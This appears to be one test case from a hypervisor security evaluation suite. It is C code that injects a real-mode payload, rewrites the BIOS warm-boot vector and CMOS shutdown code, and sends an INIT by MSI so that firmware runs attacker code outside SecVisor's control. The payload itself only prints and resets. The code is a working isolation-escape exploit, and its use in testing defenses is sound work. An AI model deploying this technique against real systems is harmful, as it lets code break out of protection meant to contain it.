// Row 27. INIT to the first CPU by a message (MSI) that it writes itself, at an address without a register in the xAPIC's page; the firmware then goes on where the warm-boot vector says, outside of whoever ran before.
// Source: AMD64 APM 2, 16.11; the warm-boot vector 40:67h of the PC/AT, with shutdown code 0Ah.
// Ends: natively succeeded; beneath SecVisor refused, apic.
#include "common/attack.h"
#include <string.h>

static const char SAYS[] = "\r\nattack: name=init-message-first result=succeeded detail=the firmware started our code\r\n";

ATTACK("init-message-first")
{
	u64 page = map_physical(START_PAGE, KERNEL_DATA), bios = map_physical(0, KERNEL_DATA);
	u64 apic = map_physical(0xfee00000, KERNEL_DATA | 0x18);
	// mov si, 100h; mov cx, length; mov dx, 3f8h; 1: cs lodsb; out dx, al; loop 1b; mov dx, cf9h; mov al, 6; out dx, al; hlt
	u8 code[] = { 0xbe, 0x00, 0x01, 0xb9, sizeof(SAYS) - 1, 0, 0xba, 0xf8, 0x03, 0x2e, 0xac, 0xee,
		      0xe2, 0xfb, 0xba, 0xf9, 0x0c, 0xb0, 0x06, 0xee, 0xf4 };

	for (unsigned i = 0; i < sizeof(code); i++)
		operate(VULNERABLE_STORE, page + i, code[i], 1);
	for (unsigned i = 0; i < sizeof(SAYS); i++)
		operate(VULNERABLE_STORE, page + 0x100 + i, SAYS[i], 1);
	operate(VULNERABLE_STORE, bios + 0x467, START_PAGE >> 4 << 16, 4);
	operate(VULNERABLE_OUT, 0x70, 1, 0x8f);
	operate(VULNERABLE_OUT, 0x71, 1, 0x0a);
	about_to("send INIT by a message");
	operate(VULNERABLE_STORE, apic, 0x4500, 4);
	operate(VULNERABLE_OUT, 0x70, 1, 0x8f);
	operate(VULNERABLE_OUT, 0x71, 1, 0);
	refused("no INIT came");
}
